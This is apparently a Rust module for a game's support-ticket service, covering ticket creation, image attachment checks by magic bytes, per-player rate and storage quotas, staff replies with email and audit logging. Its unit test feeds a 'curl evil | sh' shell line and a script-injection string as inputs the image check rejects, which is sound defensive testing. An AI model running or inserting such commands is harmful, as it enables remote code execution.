//! The support centre: a player opens a ticket (a category, a subject, what happened, the
//! transaction of their history it is about, an image), follows the conversation and answers;
//! support reads every ticket and replies, and each reply mails the player. An image is checked
//! by its bytes (PNG, JPEG or WebP, whatever its name says; at most 5 MB) and kept outside the
//! database, in `identity.attachment_dir`, named by its id; a file whose transaction fails is
//! removed. A player writes at most 20 messages an hour and attaches at most 20 MB a day (one
//! account cannot fill the volume).

use std::path::{Path, PathBuf};

use kid_contracts::limits::{TICKET_BODY_MAX, TICKET_SUBJECT_MAX};
use kid_contracts::messages::support::{
    MSG_ATTACHMENT_QUOTA, MSG_ATTACHMENT_SIZE, MSG_ATTACHMENT_TYPE, MSG_BODY_LONG, MSG_BODY_REQUIRED,
    MSG_CATEGORY_INVALID, MSG_SUBJECT_LONG, MSG_SUBJECT_REQUIRED, MSG_TICKET_CLOSED, MSG_TICKET_NOT_FOUND,
    MSG_TOO_MANY_MESSAGES, MSG_TOO_MANY_TICKETS,
};
use kid_platform::{audit, auth::StaffActor};
use serde_json::json;
use sha2::{Digest, Sha256};
use sqlx::PgPool;
use time::{Duration, OffsetDateTime};
use uuid::Uuid;

use super::Error;
use crate::{
    db::{
        self,
        tickets::{AttachmentRow, MessageRow, NewTicket, TicketRow},
    },
    domain::FieldErrors,
    events::mail::{self, Mail},
};

pub const CATEGORIES: [&str; 4] = ["topup_missing", "coin_missing", "account", "other"];
pub const MAX_ATTACHMENT_BYTES: usize = 5 * 1024 * 1024;
/// Tickets a player may open in a day.
const TICKETS_PER_DAY: i64 = 10;
/// Messages (a ticket's first included) a player may write in an hour.
pub const MESSAGES_PER_HOUR: i64 = 20;
/// Bytes of images a player may attach in a day: one account cannot fill the volume.
pub const ATTACHMENT_BYTES_PER_DAY: i64 = 20 * 1024 * 1024;

/// An image as the player sent it.
pub struct Upload<'a> {
    pub bytes: &'a [u8],
}

/// A ticket with its conversation.
pub struct Ticket {
    pub ticket: TicketRow,
    pub messages: Vec<MessageRow>,
}

/// Where attachments are kept.
#[derive(Clone)]
pub struct AttachmentStore {
    dir: PathBuf,
}

impl AttachmentStore {
    pub fn new(dir: impl Into<PathBuf>) -> Self {
        Self { dir: dir.into() }
    }

    fn path(&self, id: Uuid) -> PathBuf {
        self.dir.join(id.simple().to_string())
    }

    async fn put(&self, id: Uuid, bytes: &[u8]) -> Result<(), Error> {
        tokio::fs::create_dir_all(&self.dir)
            .await
            .map_err(|error| Error::Internal(format!("attachment dir {}: {error}", self.dir.display())))?;
        write_new(&self.path(id), bytes).await
    }

    /// Removes a file whose row was not kept (its transaction failed).
    async fn forget(&self, id: Uuid) {
        if let Err(error) = tokio::fs::remove_file(self.path(id)).await {
            tracing::error!(%id, %error, "could not remove the image of a failed ticket message");
        }
    }

    /// Removes the file of an image whose row an erasure deleted.
    pub async fn remove(&self, id: Uuid) {
        match tokio::fs::remove_file(self.path(id)).await {
            Ok(()) => {}
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => {}
            Err(error) => tracing::error!(%id, %error, "could not remove the image of an erased account"),
        }
    }

    pub async fn get(&self, id: Uuid) -> Result<Vec<u8>, Error> {
        tokio::fs::read(self.path(id))
            .await
            .map_err(|error| Error::Internal(format!("attachment {id}: {error}")))
    }
}

/// Writes a file that must not exist yet.
async fn write_new(path: &Path, bytes: &[u8]) -> Result<(), Error> {
    use tokio::io::AsyncWriteExt;
    let mut file = tokio::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(path)
        .await
        .map_err(|error| Error::Internal(format!("attachment {}: {error}", path.display())))?;
    file.write_all(bytes)
        .await
        .map_err(|error| Error::Internal(format!("attachment {}: {error}", path.display())))?;
    file.sync_all()
        .await
        .map_err(|error| Error::Internal(format!("attachment {}: {error}", path.display())))
}

/// The image's type read from its bytes, if it is one we keep.
pub fn image_type(bytes: &[u8]) -> Option<&'static str> {
    if infer::image::is_png(bytes) {
        Some("image/png")
    } else if infer::image::is_jpeg(bytes) {
        Some("image/jpeg")
    } else if infer::image::is_webp(bytes) {
        Some("image/webp")
    } else {
        None
    }
}

fn checked_body(errors: &mut FieldErrors, body: &str) -> String {
    let body = body.trim();
    if body.is_empty() {
        errors.add("body", MSG_BODY_REQUIRED);
    } else if body.chars().count() > TICKET_BODY_MAX {
        errors.add("body", MSG_BODY_LONG);
    }
    body.to_owned()
}

fn checked_upload(errors: &mut FieldErrors, upload: Option<&Upload<'_>>) -> Option<&'static str> {
    let upload = upload?;
    if upload.bytes.len() > MAX_ATTACHMENT_BYTES {
        errors.add("attachment", MSG_ATTACHMENT_SIZE);
        return None;
    }
    let kind = image_type(upload.bytes);
    if kind.is_none() {
        errors.add("attachment", MSG_ATTACHMENT_TYPE);
    }
    kind
}

/// Stores the upload (after its checks) and records it in the caller's transaction.
async fn keep(
    tx: &mut sqlx::PgConnection,
    store: &AttachmentStore,
    user_id: Uuid,
    upload: Option<&Upload<'_>>,
    kind: Option<&'static str>,
) -> Result<Option<Uuid>, Error> {
    let (Some(upload), Some(kind)) = (upload, kind) else {
        return Ok(None);
    };
    let id = Uuid::now_v7();
    let size = i64::try_from(upload.bytes.len()).map_err(|_| Error::Internal("attachment size".into()))?;
    store.put(id, upload.bytes).await?;
    if let Err(error) =
        db::tickets::insert_attachment(tx, id, user_id, kind, size, &Sha256::digest(upload.bytes)).await
    {
        store.forget(id).await;
        return Err(error.into());
    }
    Ok(Some(id))
}

/// A refusal for an allowance of `window`, whose oldest counted item is `oldest`.
fn over(message: &'static str, oldest: Option<OffsetDateTime>, window: Duration) -> Error {
    let back = oldest.map_or(window, |oldest| oldest + window - OffsetDateTime::now_utc());
    Error::Quota {
        message,
        retry_after_seconds: u64::try_from(back.whole_seconds()).unwrap_or(0).max(1),
    }
}

/// Refuses a player's message past their allowances: messages an hour, and image bytes a day
/// (`bytes` of the one attached now). Takes the player's lock for the rest of the transaction.
async fn within_allowances(
    tx: &mut sqlx::PgConnection,
    user_id: Uuid,
    bytes: Option<usize>,
) -> Result<(), Error> {
    // Two messages sent at once must not both find the player under an allowance.
    kid_platform::db::lock_key(tx, &format!("ticket-messages:{user_id}")).await?;
    let now = OffsetDateTime::now_utc();
    let (written, oldest) = db::tickets::written_since(tx, user_id, now - Duration::hours(1)).await?;
    if written >= MESSAGES_PER_HOUR {
        tracing::info!(%user_id, written, "support message refused: past the hourly allowance");
        return Err(over(MSG_TOO_MANY_MESSAGES, oldest, Duration::hours(1)));
    }
    if let Some(bytes) = bytes {
        let (attached, oldest) = db::tickets::attached_since(tx, user_id, now - Duration::days(1)).await?;
        let bytes = i64::try_from(bytes).unwrap_or(i64::MAX);
        if attached.saturating_add(bytes) > ATTACHMENT_BYTES_PER_DAY {
            tracing::info!(%user_id, attached, "support image refused: past the daily allowance");
            return Err(over(MSG_ATTACHMENT_QUOTA, oldest, Duration::days(1)));
        }
    }
    Ok(())
}

/// The size of an upload that passed its checks.
fn kept_bytes(upload: Option<&Upload<'_>>, kind: Option<&'static str>) -> Option<usize> {
    kind.and(upload).map(|upload| upload.bytes.len())
}

async fn with_messages(conn: &mut sqlx::PgConnection, ticket: TicketRow) -> Result<Ticket, Error> {
    let messages = db::tickets::messages(conn, ticket.id).await?;
    Ok(Ticket { ticket, messages })
}

/// The player's message on `ticket_id`, within their allowances, its image stored first (and
/// removed again when the transaction fails, so no file outlives a row that was not kept); the
/// ticket then waits for support. Commits, and answers the ticket with its conversation.
async fn post_players_message(
    mut tx: sqlx::Transaction<'_, sqlx::Postgres>,
    store: &AttachmentStore,
    user_id: Uuid,
    ticket_id: Uuid,
    body: &str,
    upload: Option<&Upload<'_>>,
    kind: Option<&'static str>,
) -> Result<Ticket, Error> {
    within_allowances(&mut tx, user_id, kept_bytes(upload, kind)).await?;
    let attachment = keep(&mut tx, store, user_id, upload, kind).await?;
    let posted = async move {
        db::tickets::insert_message(&mut tx, ticket_id, None, body, attachment).await?;
        db::tickets::set_status(&mut tx, ticket_id, "open").await?;
        let ticket = db::tickets::lock(&mut tx, ticket_id, None)
            .await?
            .ok_or(Error::NotFound(MSG_TICKET_NOT_FOUND))?;
        let ticket = with_messages(&mut tx, ticket).await?;
        tx.commit().await?;
        Ok(ticket)
    }
    .await;
    if posted.is_err()
        && let Some(id) = attachment
    {
        store.forget(id).await;
    }
    posted
}

/// What a player opens a ticket with.
pub struct Opening<'a> {
    pub user_id: Uuid,
    pub category: &'a str,
    pub subject: &'a str,
    pub body: &'a str,
    /// Already checked by the gateway to be one of the player's.
    pub transaction_id: Option<Uuid>,
    pub upload: Option<Upload<'a>>,
}

pub async fn open(pool: &PgPool, store: &AttachmentStore, opening: &Opening<'_>) -> Result<Ticket, Error> {
    let mut errors = FieldErrors::default();
    if !CATEGORIES.contains(&opening.category) {
        errors.add("category", MSG_CATEGORY_INVALID);
    }
    let subject = opening.subject.trim();
    if subject.is_empty() {
        errors.add("subject", MSG_SUBJECT_REQUIRED);
    } else if subject.chars().count() > TICKET_SUBJECT_MAX {
        errors.add("subject", MSG_SUBJECT_LONG);
    }
    let body = checked_body(&mut errors, opening.body);
    let kind = checked_upload(&mut errors, opening.upload.as_ref());
    errors.check().map_err(Error::Validation)?;
    let mut tx = pool.begin().await?;
    db::users::addressee(&mut tx, opening.user_id)
        .await?
        .ok_or(Error::UserNotFound)?;
    let day_ago = time::OffsetDateTime::now_utc() - time::Duration::days(1);
    if db::tickets::opened_since(&mut tx, opening.user_id, day_ago).await? >= TICKETS_PER_DAY {
        return Err(Error::Precondition(MSG_TOO_MANY_TICKETS));
    }
    let id = Uuid::now_v7();
    db::tickets::insert_ticket(
        &mut tx,
        &NewTicket {
            id,
            user_id: opening.user_id,
            category: opening.category,
            subject,
            transaction_id: opening.transaction_id,
        },
    )
    .await?;
    let ticket = post_players_message(
        tx,
        store,
        opening.user_id,
        id,
        &body,
        opening.upload.as_ref(),
        kind,
    )
    .await?;
    tracing::info!(ticket_id = %id, user_id = %opening.user_id, category = opening.category, "support ticket opened");
    Ok(ticket)
}

/// The player writes on their ticket (it waits for support again).
pub async fn add_message(
    pool: &PgPool,
    store: &AttachmentStore,
    user_id: Uuid,
    ticket_id: Uuid,
    body: &str,
    upload: Option<Upload<'_>>,
) -> Result<Ticket, Error> {
    let mut errors = FieldErrors::default();
    let body = checked_body(&mut errors, body);
    let kind = checked_upload(&mut errors, upload.as_ref());
    errors.check().map_err(Error::Validation)?;
    let mut tx = pool.begin().await?;
    let ticket = db::tickets::lock(&mut tx, ticket_id, Some(user_id))
        .await?
        .ok_or(Error::NotFound(MSG_TICKET_NOT_FOUND))?;
    if ticket.status == "closed" {
        return Err(Error::Precondition(MSG_TICKET_CLOSED));
    }
    post_players_message(tx, store, user_id, ticket_id, &body, upload.as_ref(), kind).await
}

/// A ticket with its conversation: the player's own (`user_id`), or any for staff (`None`).
pub async fn find(pool: &PgPool, ticket_id: Uuid, user_id: Option<Uuid>) -> Result<Ticket, Error> {
    let mut tx = pool.begin().await?;
    let ticket = db::tickets::lock(&mut tx, ticket_id, user_id)
        .await?
        .ok_or(Error::NotFound(MSG_TICKET_NOT_FOUND))?;
    let ticket = with_messages(&mut tx, ticket).await?;
    tx.commit().await?;
    Ok(ticket)
}

pub async fn list(
    pool: &PgPool,
    user_id: Option<Uuid>,
    status: Option<&str>,
) -> Result<Vec<TicketRow>, Error> {
    let mut conn = pool.acquire().await?;
    Ok(db::tickets::list(&mut conn, user_id, status, 200).await?)
}

/// Support replies (and may close the ticket); the player is mailed. Recorded in the audit log.
pub async fn reply(
    pool: &PgPool,
    staff: &StaffActor,
    ticket_id: Uuid,
    body: &str,
    close: bool,
) -> Result<Ticket, Error> {
    let mut errors = FieldErrors::default();
    let body = checked_body(&mut errors, body);
    errors.check().map_err(Error::Validation)?;
    let mut tx = pool.begin().await?;
    let ticket = db::tickets::lock(&mut tx, ticket_id, None)
        .await?
        .ok_or(Error::NotFound(MSG_TICKET_NOT_FOUND))?;
    db::tickets::insert_message(
        &mut tx,
        ticket_id,
        Some((staff.id, staff.username.as_str())),
        &body,
        None,
    )
    .await?;
    let status = if close { "closed" } else { "answered" };
    db::tickets::set_status(&mut tx, ticket_id, status).await?;
    if let Some(player) = db::users::addressee(&mut tx, ticket.user_id).await? {
        let text = format!(
            "Xin chào {},\n\n\
             Bộ phận hỗ trợ Kid vừa trả lời yêu cầu \"{}\" của bạn:\n\n{}\n\n\
             Xem và trả lời trong mục Hỗ trợ của Kid.\n\nKid",
            player.username, ticket.subject, body
        );
        mail::enqueue(
            &mut tx,
            ticket.user_id,
            &Mail::new(
                player.email,
                "Bộ phận hỗ trợ Kid đã trả lời yêu cầu của bạn",
                text,
            ),
        )
        .await?;
    }
    audit::record(
        &mut tx,
        staff,
        "ticket.reply",
        &format!("ticket:{ticket_id}"),
        Some(&json!({ "status": ticket.status })),
        Some(&json!({ "status": status, "reply": body })),
    )
    .await?;
    let ticket = db::tickets::lock(&mut tx, ticket_id, None)
        .await?
        .ok_or(Error::NotFound(MSG_TICKET_NOT_FOUND))?;
    let ticket = with_messages(&mut tx, ticket).await?;
    tx.commit().await?;
    Ok(ticket)
}

/// An attachment's bytes: the player's own (`user_id`), or any for staff.
pub async fn attachment(
    pool: &PgPool,
    store: &AttachmentStore,
    id: Uuid,
    user_id: Option<Uuid>,
) -> Result<(AttachmentRow, Vec<u8>), Error> {
    let mut conn = pool.acquire().await?;
    let row = db::tickets::attachment(&mut conn, id, user_id)
        .await?
        .ok_or(Error::NotFound(MSG_TICKET_NOT_FOUND))?;
    let bytes = store.get(id).await?;
    Ok((row, bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_image_is_known_by_its_bytes_not_its_name() {
        let png = [0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D];
        assert_eq!(image_type(&png), Some("image/png"));
        assert_eq!(image_type(&[0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10]), Some("image/jpeg"));
        assert_eq!(image_type(b"#!/bin/sh\ncurl evil | sh\n"), None);
        assert_eq!(image_type(b"<script>alert(1)</script>"), None);
        assert_eq!(image_type(b"<svg xmlns='http://www.w3.org/2000/svg'/>"), None);
    }
}
